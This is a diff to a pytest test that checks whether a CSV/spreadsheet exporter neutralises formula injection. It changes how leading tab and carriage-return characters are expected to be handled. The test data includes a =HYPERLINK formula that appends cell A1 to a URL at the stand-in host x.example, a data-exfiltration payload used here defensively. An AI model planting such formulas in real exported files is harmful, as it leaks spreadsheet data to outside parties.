@@ -17,7 +17,9 @@ EVIL = '=HYPERLINK("http://x.example/?"&A1,"klik")'
 
 @pytest.mark.parametrize(("value", "cell"), [
     (EVIL, "'" + EVIL), ("+31 20 123", "'+31 20 123"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Kliniek = goed", "Kliniek = goed"), (None, ""),
+    # A tab becomes a space and a carriage return a visible symbol (core.text.visible):
+    # neither can start a formula then.
+    ("\tx", " x"), ("\rx", "\u240dx"), ("Kliniek = goed", "Kliniek = goed"), (None, ""),
     (-2, "-2"), (0, "0"), (2027, "2027"),
 ])
 def test_text_that_would_run_as_a_formula_is_neutralised_numbers_are_not(
